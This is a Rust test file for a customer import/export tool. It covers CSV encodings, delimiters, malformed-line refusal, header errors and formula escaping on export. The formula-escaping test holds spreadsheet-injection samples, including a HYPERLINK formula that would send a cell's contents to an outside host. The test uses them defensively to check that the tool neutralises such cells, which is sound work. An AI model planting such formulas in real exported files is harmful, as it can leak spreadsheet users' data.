//! Files as people have them: those of spreadsheets and of old systems are imported, and what can't be read without doubt is
//! refused by its line.

use super::transfer::{BCRYPT, Installation};

const COLUMNS: &str = "email,full_name,password_hash";

fn utf_16(text: &str, to_bytes: impl Fn(u16) -> [u8; 2]) -> Vec<u8> {
    text.encode_utf16().flat_map(to_bytes).collect()
}

/// Files with one customer each, and the options that they need.
fn files() -> Vec<(&'static str, Vec<u8>, &'static [&'static str])> {
    let excel = format!(
        "\u{FEFF}email,full_name,password_hash,addresses.1.full_name,addresses.1.address_1,addresses.1.postcode,\
         addresses.1.province,addresses.1.country,addresses.1.is_default\r\n\
         excel@x.io,Zoë 1,{BCRYPT},Zoë,1 High St,94103,US-CA,US,TRUE\r\n"
    );
    let header = format!(
        " EMAIL ,FULL NAME,Password_Hash\t,STATUS,,\r\nheader@x.io,Zoë 2,{BCRYPT},Yes,,\r\n,,,,,\r\n"
    );
    let separator = format!("sep=;\r\nemail;full_name;password_hash\r\nseparator@x.io;Zoë 3;{BCRYPT}\r\n");
    let mac = format!("{COLUMNS}\rmac@x.io,Zoë 4,{BCRYPT}\r");
    let little = format!("\u{FEFF}email\tfull_name\tpassword_hash\r\nlittle@x.io\tZoë 5\t{BCRYPT}\r\n");
    let big = format!("{COLUMNS}\r\nbig@x.io,Zoë 6,{BCRYPT}\r\n");
    let latin = format!("{COLUMNS}\nlatin@x.io,Zo\u{EB} 7,{BCRYPT}\n");
    let latin: Vec<u8> =
        latin.chars().map(|c| u8::try_from(c).expect("a character of Windows-1252")).collect();
    let json = format!(r#"{{"email": "json@x.io", "full_name": "Zoë 8", "password_hash": "{BCRYPT}"}}"#);
    let apostrophe = format!("{COLUMNS}\napostrophe@x.io,'=Zoë,{BCRYPT}\n");
    vec![
        ("excel.csv", excel.into_bytes(), &[]),
        ("header.csv", header.into_bytes(), &[]),
        ("separator.csv", separator.into_bytes(), &[]),
        ("mac.csv", mac.into_bytes(), &[]),
        ("unicode.tsv", utf_16(&little, u16::to_le_bytes), &[]),
        ("unicode.csv", utf_16(&big, u16::to_be_bytes), &[]),
        ("latin.csv", latin, &["--encoding", "windows-1252"]),
        ("json.ndjson", utf_16(&json, u16::to_le_bytes), &["--encoding", "utf-16"]),
        ("apostrophe.csv", apostrophe.into_bytes(), &["--raw"]),
    ]
}

#[test]
fn files_of_spreadsheets_are_imported() {
    for installation in Installation::on_both_databases("spreadsheets") {
        let files = files();
        for (name, content, options) in &files {
            installation.write(name, content);
            let arguments = [&["import", *name][..], *options].concat();
            let (code, text, error) = installation.run(&arguments);
            assert_eq!((code, text.as_str()), (0, "1 imported, 0 skipped, 0 refused"), "{name}: {error}");
            assert_eq!(installation.run(&arguments).1, "0 imported, 1 skipped, 0 refused", "{name}");
        }
        let exported = installation.export();
        let customers: Vec<serde_json::Value> =
            exported.lines().map(|line| serde_json::from_str(line).expect("the line is JSON")).collect();
        let names: Vec<&str> =
            customers.iter().map(|customer| customer["full_name"].as_str().unwrap_or_default()).collect();
        let expected = ["Zoë 1", "Zoë 2", "Zoë 3", "Zoë 4", "Zoë 5", "Zoë 6", "Zoë 7", "Zoë 8", "'=Zoë"];
        assert_eq!(names, expected);
        assert_eq!(customers[0]["addresses"][0]["is_default"], true);
        assert_eq!(customers[1]["status"], 1);
    }
}

#[test]
fn booleans_of_spreadsheets_are_read() {
    for installation in Installation::on_both_databases("booleans") {
        let server = installation.serve();
        super::transfer::define(&server, &[r#""fieldKey": "vip", "name": "VIP", "fieldType": "boolean""#]);
        let words = ["TRUE", "True", "yes", "1", "FALSE", "no", "0", "perhaps"];
        let lines = words
            .iter()
            .enumerate()
            .map(|(number, word)| format!("c{number}@x.io,C,{BCRYPT},{word},{word}\n"));
        let file = format!("{COLUMNS},status,metafields.custom.vip\n{}", lines.collect::<String>());
        installation.write("c.csv", file);
        let (code, text, error) = installation.run(&["import", "c.csv"]);
        assert_eq!((code, text.as_str()), (65, "7 imported, 0 skipped, 1 refused"), "{error}");
        assert_eq!(
            installation.read("c.csv.refused.csv"),
            "line,field,reason\n9,status,\"Status must be either 0, 1, '0', or '1'\"\n"
        );
        let exported = installation.export();
        let read = |line: &str| {
            let customer: serde_json::Value = serde_json::from_str(line).expect("the line is JSON");
            (customer["status"].as_i64(), customer["meta_data"]["custom"]["vip"].as_bool())
        };
        let on = (Some(1), Some(true));
        let off = (Some(0), Some(false));
        assert_eq!(exported.lines().map(read).collect::<Vec<_>>(), [on, on, on, on, off, off, off]);
        assert_eq!(server.terminate().0, Some(0));
    }
}

const MALFORMED: &[&str] = &[
    r#"b@x.io,"Ada \"the\" Test",$"#,
    r#"c@x.io,"Ada" Test,$"#,
    r#"d@x.io,5" pipe,$"#,
    r#"e@x.io, "Ada",$"#,
    "f@x.io,A\rB,$",
    "g@x.io,Zo\u{EB},$,",
    "h@x.io,A,$,x",
    "i@x.io,A",
    "k@x.io,\"A,$\nl@x.io,A,$",
];

const REFUSED: &str = "line,field,reason\n\
    2,,\"text after the closing quotation mark of a cell: write a quotation mark inside a cell twice (RFC 4180), without a backslash\"\n\
    3,,\"text after the closing quotation mark of a cell: write a quotation mark inside a cell twice (RFC 4180), without a backslash\"\n\
    4,,\"a quotation mark inside a cell that is not enclosed in quotation marks: enclose the cell, and write inner quotation marks twice (RFC 4180)\"\n\
    5,,\"a quotation mark inside a cell that is not enclosed in quotation marks: enclose the cell, and write inner quotation marks twice (RFC 4180)\"\n\
    6,,a carriage return inside a cell that is not enclosed in quotation marks\n\
    7,,\"not UTF-8; if the file is in Windows-1252, use --encoding windows-1252, or convert it with iconv -f WINDOWS-1252 -t UTF-8 FILE > CONVERTED\"\n\
    8,,cell 4 is in a column without a name\n\
    9,,2 cells instead of 4\n\
    10,,\"a quotation mark is not closed, so everything after it was read as one cell\"\n";

/// They could be read in two ways, and are not stored in either.
#[test]
fn lines_that_are_not_csv_are_refused() {
    for installation in Installation::on_both_databases("malformed") {
        let lines = MALFORMED.join("\n").replace('$', BCRYPT);
        let text = format!("{COLUMNS},\n{lines}");
        // One character is not valid UTF-8.
        let content: Vec<u8> = text.chars().map(|c| u8::try_from(c).expect("a small character")).collect();
        installation.write("c.csv", content);
        let (code, text, error) = installation.run(&["import", "c.csv"]);
        assert_eq!((code, text.as_str()), (65, "0 imported, 0 skipped, 9 refused"), "{error}");
        assert_eq!(installation.read("c.csv.refused.csv"), REFUSED);
        assert_eq!(installation.export(), "");
    }
}

#[test]
fn a_header_is_reported_with_all_its_problems() {
    for installation in Installation::on_both_databases("headers") {
        for (header, expected) in [
            (
                "Customer ID,First Name,Email,Tags,email\r\n1,Ada,a@x.io,\"a, b\",b@x.io\r\n",
                "c.csv: line 1: there are no fields \"Customer ID\", \"First Name\", \"Tags\"; the column \"email\" occurs \
                 twice; --map \"COLUMN=FIELD\"",
            ),
            (
                "email;full_name\n",
                "no field \"email;full_name\"; if cells are separated by ';', use --delimiter ';'",
            ),
            ("sep=\t\nemail\tfullname\n", "line 2: there is no field \"fullname\""),
            ("\"email\n", "line 1: a quotation mark is not closed"),
        ] {
            installation.write("c.csv", header);
            let (code, _, error) = installation.run(&["import", "c.csv"]);
            assert!(code == 1 && error.contains(expected), "{header:?}: {code} {error}");
        }
        installation.write("c.csv", "sep=;\nemail;full_name\n");
        let (code, _, error) = installation.run(&["import", "c.csv", "--delimiter", ","]);
        assert!(
            code == 1 && error.contains("the file names the delimiter ';', and --delimiter is ','"),
            "{error}"
        );
        installation.write("c.csv", b"email,Stra\xDFe\n".as_slice());
        let (code, _, error) = installation.run(&["import", "c.csv"]);
        assert!(code == 1 && error.contains("line 1: not UTF-8; if the file is in Windows-1252"), "{error}");
    }
}

#[test]
fn cells_that_a_spreadsheet_would_run_are_escaped() {
    for installation in Installation::on_both_databases("formulas") {
        let texts = [
            "=HYPERLINK(\"https://x.io?\"&A1,\"open\")",
            "+1+1",
            "@SUM(1)",
            "'=1",
            "''+49 89",
            "'s",
            "+49 (0)89-1",
        ];
        let line = |(number, name): (usize, &&str)| {
            let name = serde_json::Value::from(*name);
            format!(
                "{{\"email\": \"+{number}@x.io\", \"full_name\": {name}, \"password_hash\": \"{BCRYPT}\"}}\n"
            )
        };
        installation.write("c.ndjson", texts.iter().enumerate().map(line).collect::<String>());
        assert_eq!(installation.run(&["import", "c.ndjson"]).0, 0);
        let export = |options: &[&str]| {
            let always = ["export", "--format", "csv", "--with-password-hashes"];
            let (code, file, error) = installation.run(&[&always[..], options].concat());
            assert_eq!(code, 0, "{error}");
            let mut reader = csv::Reader::from_reader(file.as_bytes());
            let cells = reader.records().map(|record| {
                let record = record.expect("the file is CSV");
                [record[3].to_owned(), record[4].to_owned()]
            });
            let cells: Vec<[String; 2]> = cells.collect();
            (cells, file)
        };
        let (cells, file) = export(&[]);
        for ([name, email], text) in cells.iter().zip(texts) {
            let is_number = text == "+49 (0)89-1";
            assert!(is_number || !name.starts_with(['=', '+', '-', '@']), "{name}");
            let escaped = if is_number || text == "'s" { text.to_owned() } else { format!("'{text}") };
            assert!(*name == escaped && email.starts_with("'+"), "{name} {email}");
        }
        let (raw_cells, raw_file) = export(&["--raw"]);
        assert!(
            raw_cells.iter().zip(texts).all(|([name, email], text)| name == text && email.starts_with('+'))
        );
        // Both files are read as they were written.
        installation.write("c.csv", file);
        installation.write("raw.csv", raw_file);
        for arguments in [&["import", "c.csv"][..], &["import", "raw.csv", "--raw"]] {
            assert_eq!(installation.run(arguments).1, "0 imported, 7 skipped, 0 refused", "{arguments:?}");
        }
        // The texts of the other file are those of other customers.
        assert_eq!(installation.run(&["import", "c.csv", "--raw"]).0, 65);
    }
}
